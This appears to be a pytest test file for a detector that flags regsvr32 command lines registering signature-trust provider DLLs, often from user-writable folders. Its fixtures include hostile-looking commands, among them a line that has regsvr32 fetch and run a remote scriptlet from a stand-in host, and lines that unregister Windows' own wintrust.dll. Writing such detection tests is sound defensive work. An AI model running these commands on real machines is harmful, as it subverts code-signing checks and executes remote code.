"""regsvr32 of libraries that decide which signatures hold."""

from __future__ import annotations

import pytest

from tests.core.lines import ids, judged_windows

TEMP = "C:\\Users\\u\\AppData\\Local\\Temp\\"
POWERSHELL = "{603BCC1F-4B59-4E08-B724-D2C6297EF351}"


@pytest.mark.parametrize(
    ("line", "indicators"),
    [
        (f"regsvr32.exe /s /n /i:{POWERSHELL} {TEMP}a.dll", ["trust_provider_hijack", "input_user_writable"]),
        (f"regsvr32 /s {TEMP}MySIPProvider.dll", ["register_sip", "input_user_writable"]),
        ("regsvr32 /s C:\\lab\\MySIP.dll", ["register_sip"]),
        ("regsvr32 D:\\tools\\labsip64.dll", ["register_sip"]),
        ('regsvr32 /s "C:\\Program Files\\Lab\\labsip.dll"', ["register_sip", "installed_place"]),
        ("regsvr32 /s C:\\lab\\TrustProvider.dll", ["register_sip"]),
        ("regsvr32 /s C:\\ProgramData\\lab\\wintrust.dll", ["register_sip", "input_user_writable"]),
        # Windows' and Office's own, registered again
        ("regsvr32 /s wintrust.dll", []),
        ("regsvr32 /s C:\\Windows\\System32\\pwrshsip.dll", []),
        # taken away: what Windows checks with, and what others brought
        ("regsvr32 /u /s C:\\Windows\\System32\\wintrust.dll", ["register_sip"]),
        ("regsvr32 /s -u pwrshsip.dll", ["register_sip"]),
        (f"regsvr32 /u /s {TEMP}MySIP.dll", []),
        # other libraries
        (f"regsvr32 /s {TEMP}a.dll", []),
        ("regsvr32 /s C:\\lab\\sipcalls.dll", []),
        ("regsvr32 /s /u /i:http://h.example/a.sct scrobj.dll", []),
        ("regsvr32", []),
    ],
)
def test_providers(line: str, indicators: list[str]) -> None:
    report = judged_windows(line)
    assert (ids(report), report.action) == (indicators, "hijack_trust_provider" if indicators else "")
